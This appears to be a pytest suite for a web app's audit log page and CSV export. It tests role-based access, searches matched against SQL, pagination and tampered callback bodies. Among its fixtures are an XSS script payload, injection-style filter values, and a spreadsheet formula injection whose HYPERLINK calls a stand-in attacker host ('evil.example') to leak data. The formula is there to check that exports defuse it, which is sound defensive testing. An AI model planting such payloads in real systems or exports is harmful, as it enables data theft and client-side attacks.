"""The audit log screen (/audit) and its CSV export, over HTTP without a browser.

Every role x {page, pages router, each callback, export}; search results and export
counts against direct SQL on ``audit_log``; hand-made callback bodies with tampered
values. The test database is shared by the session, so each test writes records under
user names of its own and compares only those (or bounds its SQL by record ids).
"""

from __future__ import annotations

import csv
import io
import json
import uuid
from collections.abc import Iterator
from datetime import datetime, timedelta
from typing import Any

import pytest
from sqlalchemy import text

from geodata.db import session_scope
from governance import audit, audit_view
from governance.demo_accounts import DEMO_ACCOUNTS
from governance.filters import LOCAL_TZ
from i18n import t
from pages.audit_ids import AuditIds
from tests.conftest import signed_in_client

USERNAMES = tuple(a.username for a in DEMO_ACCOUNTS)
AUDITOR = "auditor"
SEARCH_OUTPUTS = (
    (AuditIds.RESULTS, "children"),
    (AuditIds.STATUS, "children"),
    (AuditIds.HEAD, "data"),
    (AuditIds.PREV, "disabled"),
    (AuditIds.NEXT, "disabled"),
    (AuditIds.PAGE_LABEL, "children"),
    (AuditIds.EXPORT, "href"),
)


# ----------------------------------------------------------------------------- helpers
def _outputs(pairs: tuple[tuple[str, str], ...]) -> dict[str, Any]:
    outs = [{"id": cid, "property": prop} for cid, prop in pairs]
    key = ".." + "...".join(f"{cid}.{prop}" for cid, prop in pairs) + ".."
    if len(outs) == 1:  # a single output is sent as an object, not a list
        return {"output": f"{pairs[0][0]}.{pairs[0][1]}", "outputs": outs[0]}
    return {"output": key, "outputs": outs}


def search_body(query: Any) -> dict[str, Any]:
    """The body Dash's renderer POSTs for the search callback (a hand-made one may send
    anything as ``query``)."""
    return {
        **_outputs(SEARCH_OUTPUTS),
        "inputs": [{"id": AuditIds.QUERY, "property": "data", "value": query}],
        "changedPropIds": [f"{AuditIds.QUERY}.data"],
        "state": [],
    }


def verify_body() -> dict[str, Any]:
    return {
        **_outputs(((AuditIds.VERIFY_RESULT, "children"), (AuditIds.VERIFY_RESULT, "className"))),
        "inputs": [{"id": AuditIds.VERIFY, "property": "n_clicks", "value": 1}],
        "changedPropIds": [f"{AuditIds.VERIFY}.n_clicks"],
        "state": [],
    }


def query_body(trigger: str, *, form: dict[str, Any], query: Any = None, head: Any = None) -> dict:
    """The body of the form -> query callback (inputs and states flattened in order)."""

    def dep(cid: str, prop: str, value: Any) -> dict[str, Any]:
        return {"id": cid, "property": prop, "value": value}

    inputs = [
        dep(AuditIds.SEARCH, "n_clicks", 1 if trigger == AuditIds.SEARCH else 0),
        dep(AuditIds.USERNAME, "n_submit", None),
        dep(AuditIds.OBJECT_TYPE, "n_submit", None),
        dep(AuditIds.OBJECT_ID, "n_submit", None),
        dep(AuditIds.ACTION, "value", form.get("action")),
        dep(AuditIds.OUTCOME, "value", form.get("outcome")),
        dep(AuditIds.DATES, "start_date", form.get("start")),
        dep(AuditIds.DATES, "end_date", form.get("end")),
        dep(AuditIds.PREV, "n_clicks", 1 if trigger == AuditIds.PREV else 0),
        dep(AuditIds.NEXT, "n_clicks", 1 if trigger == AuditIds.NEXT else 0),
    ]
    state = [
        dep(AuditIds.USERNAME, "value", form.get("username")),
        dep(AuditIds.OBJECT_TYPE, "value", form.get("object_type")),
        dep(AuditIds.OBJECT_ID, "value", form.get("object_id")),
        dep(AuditIds.QUERY, "data", query),
        dep(AuditIds.HEAD, "data", head),
    ]
    prop = "n_clicks" if trigger in (AuditIds.SEARCH, AuditIds.PREV, AuditIds.NEXT) else "value"
    return {
        **_outputs(((AuditIds.QUERY, "data"),)),
        "inputs": inputs,
        "state": state,
        "changedPropIds": [f"{trigger}.{prop}"],
    }


def router_body(path: str) -> dict[str, Any]:
    return {
        **_outputs((("_pages_content", "children"), ("_pages_store", "data"))),
        "inputs": [
            {"id": "_pages_location", "property": "pathname", "value": path},
            {"id": "_pages_location", "property": "search", "value": ""},
        ],
        "changedPropIds": ["_pages_location.pathname"],
        "state": [],
    }


def post(client: Any, body: dict[str, Any]) -> Any:
    cookie = client.get_cookie("_csrf_token")
    return client.post(
        "/_dash-update-component",
        data=json.dumps(body),
        headers={"Content-Type": "application/json", "X-CSRFToken": cookie.value},
    )


def texts(node: Any, class_name: str) -> list[str]:
    """Text children of every component with ``class_name`` in a Dash response tree."""
    found: list[str] = []
    if isinstance(node, list):
        for n in node:
            found += texts(n, class_name)
    elif isinstance(node, dict):
        props = node.get("props")
        if isinstance(props, dict):
            if class_name in str(props.get("className") or "").split():
                child = props.get("children")
                found.append(child if isinstance(child, str) else json.dumps(child))
            found += texts(props.get("children"), class_name)
        else:
            for v in node.values():
                found += texts(v, class_name)
    return found


def search(client: Any, query: Any) -> dict[str, Any]:
    """Run the search callback; its outputs by component id."""
    resp = post(client, search_body(query))
    assert resp.status_code == 200, resp.get_data(as_text=True)[:300]
    out = resp.get_json()["response"]
    return {cid: next(iter(v.values())) for cid, v in out.items()}


def shown_ids(out: dict[str, Any]) -> list[int]:
    return [int(v) for v in texts(out[AuditIds.RESULTS], "mq-audit-id")]


def today() -> str:
    return datetime.now(LOCAL_TZ).date().isoformat()


def sql(query: str, **params: Any) -> list[Any]:
    with session_scope() as s:
        return list(s.execute(text(query), params).all())


def max_id() -> int:
    return int(sql("SELECT coalesce(max(id), 0) FROM audit_log")[0][0])


@pytest.fixture(scope="module")
def auditor() -> Any:
    return signed_in_client(AUDITOR)


@pytest.fixture
def tag() -> Iterator[str]:
    """A user name of this test's own (records written under it belong to the test)."""
    yield f"pg-{uuid.uuid4().hex[:10]}"


def _write(tag: str) -> dict[str, list[int]]:
    """Records of one made-up user: 3 sign-ins, 2 failed ones, a denial, an export."""
    ids: dict[str, list[int]] = {"login": [], "login_failed": [], "access_denied": []}
    for _ in range(3):
        ids["login"].append(audit.record_now(action="login", username=tag, role="commander"))
    for _ in range(2):
        ids["login_failed"].append(
            audit.record_now(action="login_failed", outcome="failure", username=tag)
        )
    ids["access_denied"].append(
        audit.record_now(
            action="access_denied",
            outcome="denied",
            username=tag,
            role="commander",
            object_type="route",
            object_id="GET /audit",
            detail={"check": "page"},
        )
    )
    return ids


# ----------------------------------------------------------------------------- access
@pytest.mark.parametrize("username", USERNAMES)
def test_only_the_auditor_gets_the_page_its_callbacks_and_the_export(username: str) -> None:
    client = signed_in_client(username)
    start = max_id()
    allowed = username == AUDITOR
    page = client.get("/audit")
    router = post(client, router_body("/audit"))
    slashed = post(client, router_body("/audit/"))  # Dash renders /audit for it too
    found = post(client, search_body({"filters": {"start": today(), "end": today()}}))
    checked = post(client, verify_body())
    query = post(client, query_body(AuditIds.SEARCH, form={"username": "x"}))
    export = client.get("/audit/export.csv?action=login")
    if allowed:
        assert page.status_code == 200
        assert router.status_code == 200 and AuditIds.RESULTS in router.get_data(as_text=True)
        assert slashed.status_code == 200
        assert found.status_code == checked.status_code == query.status_code == 200
        assert export.status_code == 200 and export.mimetype == "text/csv"
        return
    assert page.status_code == 403 and "无权" in page.get_data(as_text=True)
    for resp in (router, slashed, found, checked, query):
        assert resp.status_code == 403 and resp.is_json
        assert resp.get_json()["key"] == "error.forbidden"
        assert AuditIds.RESULTS not in resp.get_data(as_text=True)
    assert export.status_code == 403 and "text/csv" not in export.content_type
    denied = sql(
        """SELECT object_id, detail ->> 'check' FROM audit_log WHERE id > :i
        AND action = 'access_denied' AND outcome = 'denied' AND username = :u ORDER BY id""",
        i=start,
        u=username,
    )
    assert [r[0] for r in denied] == ["GET /audit"] + ["POST /_dash-update-component"] * 5 + [
        "GET /audit/export.csv"
    ]
    assert denied[-1][1] == "audit export"
    assert not sql(
        "SELECT 1 FROM audit_log WHERE id > :i AND action = 'export'", i=start
    )  # a refused export leaves no export record


def test_anonymous_export_is_sent_to_sign_in(anon_client: Any) -> None:
    resp = anon_client.get("/audit/export.csv")
    assert resp.status_code == 302 and "/login" in resp.headers["Location"]


def test_the_auditor_lands_on_the_audit_log_after_sign_in(anon_client: Any) -> None:
    import re

    from tests.conftest import demo_password

    page = anon_client.get("/login").get_data(as_text=True)
    token = re.search(r'name="csrf_token" value="([^"]+)"', page).group(1)  # type: ignore[union-attr]
    resp = anon_client.post(
        "/login",
        data={
            "username": AUDITOR,
            "password": demo_password(AUDITOR),
            "csrf_token": token,
            "next": "/",
        },
    )
    assert resp.status_code == 302 and resp.headers["Location"] == "/audit"


def test_layout_starts_with_the_last_seven_days_and_no_records(auditor: Any) -> None:
    body = json.dumps(post(auditor, router_body("/audit")).get_json(), ensure_ascii=False)
    week = (datetime.now(LOCAL_TZ).date() - timedelta(days=6)).isoformat()
    assert f'"filters": {{"start": "{week}", "end": "{today()}"}}' in body
    assert "mq-audit-row" not in body and "审计日志" in body


# ----------------------------------------------------------------------------- search
def test_search_filters_match_sql(auditor: Any, tag: str) -> None:
    ids = _write(tag)
    day = {"start": today(), "end": today()}
    out = search(auditor, {"filters": {**day, "username": tag, "action": "login"}})
    expected = [
        r[0]
        for r in sql(
            "SELECT id FROM audit_log WHERE username = :u AND action = 'login' ORDER BY id DESC",
            u=tag,
        )
    ]
    assert shown_ids(out) == expected == sorted(ids["login"], reverse=True)
    assert out[AuditIds.NEXT] is True and out[AuditIds.PREV] is True  # one page only
    assert out[AuditIds.HEAD] == expected[0]
    failures = search(auditor, {"filters": {"username": tag, "outcome": "failure"}})
    assert shown_ids(failures) == sorted(ids["login_failed"], reverse=True)
    by_object = search(
        auditor, {"filters": {"username": tag, "object_type": "route", "object_id": "GET /audit"}}
    )
    assert shown_ids(by_object) == ids["access_denied"]
    assert texts(by_object[AuditIds.RESULTS], "mq-audit-json") == ['{"check": "page"}']
    everything = search(auditor, {"filters": {"username": tag}})
    assert len(shown_ids(everything)) == 6
    yesterday = (datetime.now(LOCAL_TZ).date() - timedelta(days=1)).isoformat()
    none = search(auditor, {"filters": {"username": tag, "start": yesterday, "end": yesterday}})
    assert shown_ids(none) == [] and "没有符合条件的审计记录" in json.dumps(
        none[AuditIds.RESULTS], ensure_ascii=False
    )


def test_demo_sign_ins_match_sql(auditor: Any) -> None:
    """Sign-ins of a demo account over the default week, as the screen first shows them."""
    signed_in_client("dept")
    week = (datetime.now(LOCAL_TZ).date() - timedelta(days=6)).isoformat()
    out = search(auditor, {"filters": {"start": week, "end": today(), "username": "dept"}})
    since = datetime.fromisoformat(week).replace(tzinfo=LOCAL_TZ)
    rows = sql(
        """SELECT id FROM audit_log WHERE username = 'dept' AND at >= :s AND id <= :h
        ORDER BY id DESC LIMIT 50""",
        s=since,
        h=out[AuditIds.HEAD],
    )
    assert shown_ids(out) == [r[0] for r in rows] and rows
    labels = texts(out[AuditIds.RESULTS], "mq-audit-outcome")
    assert "成功" in labels


def test_pages_are_fetched_by_the_query_and_pinned(auditor: Any, tag: str) -> None:
    written = [audit.record_now(action="data_change", username=tag) for _ in range(120)]
    newest_first = sorted(written, reverse=True)
    filters = {"username": tag}
    first = search(auditor, {"filters": filters})
    assert shown_ids(first) == newest_first[:50] and first[AuditIds.NEXT] is False
    assert "第 1 页 · 第 1–50 条" == first[AuditIds.PAGE_LABEL]
    head = first[AuditIds.HEAD]
    later = [audit.record_now(action="data_change", username=tag) for _ in range(3)]
    # the next page, as the form -> query callback builds it
    resp = post(
        auditor,
        query_body(AuditIds.NEXT, form={}, query={"filters": filters, "page": 0}, head=head),
    )
    query = resp.get_json()["response"][AuditIds.QUERY]["data"]
    assert query == {"filters": filters, "page": 1, "head": head}
    second = search(auditor, query)
    assert shown_ids(second) == newest_first[50:100]  # the 3 later records shift nothing
    assert second[AuditIds.PREV] is False and second[AuditIds.NEXT] is False
    third = search(auditor, {**query, "page": 2})
    assert shown_ids(third) == newest_first[100:] and third[AuditIds.NEXT] is True
    fresh = search(auditor, {"filters": filters})
    assert shown_ids(fresh)[:3] == sorted(later, reverse=True)
    # a new search from the form starts on page 1 with the form's filters
    resp = post(auditor, query_body(AuditIds.SEARCH, form={"username": tag, "action": "login"}))
    query = resp.get_json()["response"][AuditIds.QUERY]["data"]
    assert query["filters"]["username"] == tag and query["filters"]["action"] == "login"
    assert "page" not in query


def test_values_are_shown_as_text_never_as_html(auditor: Any, tag: str) -> None:
    script = "<script>alert(1)</script><img src=x onerror=alert(2)>"
    audit.record_now(
        action="login_failed",
        outcome="failure",
        username=tag,
        object_id=script,
        reason=script,
        detail={"html": script},
    )
    out = search(auditor, {"filters": {"username": tag}})
    raw = json.dumps(out, ensure_ascii=False)
    assert "dangerously_allow_html" not in raw
    assert texts(out[AuditIds.RESULTS], "mq-audit-object") == [script]
    assert script in texts(out[AuditIds.RESULTS], "mq-audit-json")[0]


def test_verify_reports_an_intact_chain(auditor: Any) -> None:
    resp = post(auditor, verify_body())
    out = resp.get_json()["response"][AuditIds.VERIFY_RESULT]
    assert "mq-audit-verify-ok" in out["className"]
    assert out["children"].startswith("审计日志完整")


# ----------------------------------------------------------------------------- tampering
TAMPERED = [
    ({"filters": {}, "page": -5}, "error.audit.page", {"max": audit_view.MAX_PAGE}),
    ({"filters": {}, "page": 10**9}, "error.audit.page", {"max": audit_view.MAX_PAGE}),
    ({"filters": {}, "page": "2"}, "error.audit.page", {"max": audit_view.MAX_PAGE}),
    ({"filters": {}, "page": True}, "error.audit.page", {"max": audit_view.MAX_PAGE}),
    ({"filters": {"start": "not-a-date"}}, "error.time_format", {"name": "start"}),
    ({"filters": {"end": "2026-13-45"}}, "error.time_format", {"name": "end"}),
    ({"filters": {"start": "2026-02-01", "end": "2026-01-01"}}, "error.time_inverted", {}),
    ({"filters": {"username": "x" * 10_000}}, "error.audit.too_long", {"max": 200}),
    ({"filters": {"username": {"$ne": None}}}, "error.audit.bad_value", {}),
    ({"filters": {"action": ["login", "logout"]}}, "error.audit.bad_value", {}),
    (
        {"filters": {"outcome": "maybe"}},
        "error.unknown_value",
        {"name": "outcome", "value": "maybe"},
    ),
    ({"filters": "username=admin"}, "error.audit.bad_value", {}),
    ({"filters": {}, "head": -1}, "error.audit.bad_value", {}),
    (["not", "a", "query"], "error.audit.bad_value", {}),
]


@pytest.mark.parametrize(("query", "key", "params"), TAMPERED)
def test_tampered_search_gets_a_translated_error(
    auditor: Any, query: Any, key: str, params: dict[str, Any]
) -> None:
    out = search(auditor, query)  # 200: the screen shows why, no 500
    status = json.dumps(out[AuditIds.STATUS], ensure_ascii=False)
    assert t(key, "zh-CN", **params) in status
    assert out[AuditIds.RESULTS] == [] and out[AuditIds.NEXT] is True


def test_tampered_search_error_in_english(auditor: Any) -> None:
    auditor.set_cookie("minqing_lang", "en")
    try:
        out = search(auditor, {"filters": {"start": "not-a-date"}, "page": -5})
    finally:
        auditor.delete_cookie("minqing_lang")
    status = json.dumps(out[AuditIds.STATUS])
    assert "Time parameter 'start' is malformed" in status


@pytest.mark.parametrize(
    ("qs", "message"),
    [
        ("start=not-a-date", "时间参数“start”格式错误"),
        ("username=" + "x" * 10_000, "筛选条件过长"),
        ("outcome=%3Dcmd", "参数“outcome”的取值无效"),
    ],
)
def test_tampered_export_gets_a_translated_400(auditor: Any, qs: str, message: str) -> None:
    start = max_id()
    resp = auditor.get(f"/audit/export.csv?{qs}")
    assert resp.status_code == 400 and message in resp.get_data(as_text=True)
    assert not sql("SELECT 1 FROM audit_log WHERE id > :i AND action = 'export'", i=start)


# ----------------------------------------------------------------------------- export
def read_csv(resp: Any) -> list[list[str]]:
    raw = resp.get_data()
    assert raw.startswith("\ufeff".encode())  # BOM: Excel reads UTF-8
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))


def test_export_matches_sql_and_is_audited(auditor: Any, tag: str) -> None:
    _write(tag)
    resp = auditor.get(f"/audit/export.csv?username={tag}&action=login&start={today()}")
    assert resp.status_code == 200 and resp.mimetype == "text/csv"
    assert "attachment" in resp.headers["Content-Disposition"]
    rows = read_csv(resp)
    assert rows[0][:3] == ["编号", "时间", "用户"]
    expected = sql(
        "SELECT id FROM audit_log WHERE username = :u AND action = 'login' ORDER BY id DESC",
        u=tag,
    )
    assert [int(r[0]) for r in rows[1:]] == [r[0] for r in expected]
    assert all(r[2] == tag and r[4] == "login" for r in rows[1:])
    record = sql(
        "SELECT action, outcome, username, role, object_type, detail FROM audit_log WHERE id = :i",
        i=int(resp.headers["X-Audit-Record"]),
    )[0]
    assert record[:5] == ("export", "success", AUDITOR, "auditor", "audit_log")
    assert record.detail["rows"] == 3 and record.detail["capped"] is False
    assert record.detail["filters"] == {"username": tag, "action": "login", "start": today()}


def test_export_of_a_wide_filter_counts_like_sql(auditor: Any) -> None:
    """Every sign-in of the week: the CSV has exactly the rows SQL counts up to the
    snapshot the export recorded."""
    week = (datetime.now(LOCAL_TZ).date() - timedelta(days=6)).isoformat()
    resp = auditor.get(f"/audit/export.csv?action=login&start={week}&end={today()}")
    rows = read_csv(resp)[1:]
    record = int(resp.headers["X-Audit-Record"])
    head = sql("SELECT detail FROM audit_log WHERE id = :i", i=record)[0][0]["head_id"]
    since = datetime.fromisoformat(week).replace(tzinfo=LOCAL_TZ)
    count = sql(
        "SELECT count(*) FROM audit_log WHERE action = 'login' AND at >= :s AND id <= :h",
        s=since,
        h=head,
    )[0][0]
    assert len(rows) == count == int(resp.headers["X-Export-Rows"]) > 0


def test_export_is_capped_and_says_so(
    auditor: Any, tag: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    _write(tag)
    monkeypatch.setattr(audit_view, "EXPORT_CAP", 4)
    resp = auditor.get(f"/audit/export.csv?username={tag}")
    rows = read_csv(resp)
    assert resp.headers["X-Truncated"] == "1" and len(rows) == 1 + 4 + 1
    assert "已截断" in rows[-1][0] and "4" in rows[-1][0]
    detail = sql(
        "SELECT detail FROM audit_log WHERE id = :i", i=int(resp.headers["X-Audit-Record"])
    )[0][0]
    assert detail["rows"] == 4 and detail["capped"] is True


def test_export_defuses_spreadsheet_formulas(auditor: Any, tag: str) -> None:
    evil = f'=HYPERLINK("http://evil.example/?{tag}","x")'
    audit.record_now(action="login_failed", outcome="failure", username=evil)
    audit.record_now(action="login_failed", outcome="failure", username=tag, reason="@SUM(A1)")
    rows = read_csv(auditor.get("/audit/export.csv?action=login_failed&start=" + today()))
    users = [r[2] for r in rows[1:]]
    assert "'" + evil in users and evil not in users
    assert any(r[9] == "'@SUM(A1)" for r in rows[1:] if r[2] == tag)


def test_export_in_english(auditor: Any, tag: str) -> None:
    _write(tag)
    resp = auditor.get(f"/audit/export.csv?username={tag}&lang=en")
    auditor.set_cookie("minqing_lang", "en")
    try:
        header = read_csv(auditor.get(f"/audit/export.csv?username={tag}"))[0]
    finally:
        auditor.delete_cookie("minqing_lang")
    assert header[:3] == ["#", "Time", "User"]
    assert len(read_csv(resp)) == 1 + 6


def test_every_action_and_outcome_has_a_label_in_both_languages() -> None:
    from geodata.models_audit import AuditAction, AuditOutcome
    from i18n import CATALOG

    keys = [f"audit.action.{a}" for a in AuditAction]
    keys += [f"audit.outcome.{o}" for o in AuditOutcome]
    for key in keys:
        assert CATALOG[key]["zh-CN"] and CATALOG[key]["en"], key


def test_a_search_is_itself_recorded_but_turning_pages_is_not(auditor: Any, tag: str) -> None:
    for _ in range(60):
        audit.record_now(action="data_change", username=tag)

    def searches() -> list[Any]:
        return sql(
            """SELECT detail->'filters'->>'username', detail->>'rows' FROM audit_log
            WHERE action = 'audit_search' AND username = 'auditor' AND detail->'filters'->>'username' = :u
            ORDER BY id""",
            u=tag,
        )

    first = search(auditor, {"filters": {"username": tag}})
    assert [tuple(r) for r in searches()] == [(tag, "50")]
    # a search for searches: its own record is not on its page, the next one shows it
    own = {"username": "auditor", "action": "audit_search"}
    before = shown_ids(search(auditor, {"filters": own}))
    mine = max(r[0] for r in sql("SELECT id FROM audit_log WHERE action = 'audit_search'"))
    assert mine not in before
    assert mine in shown_ids(search(auditor, {"filters": own}))
    search(auditor, {"filters": {"username": tag}, "page": 1, "head": first[AuditIds.HEAD]})
    assert len(searches()) == 1  # the next page of the same search: no new record
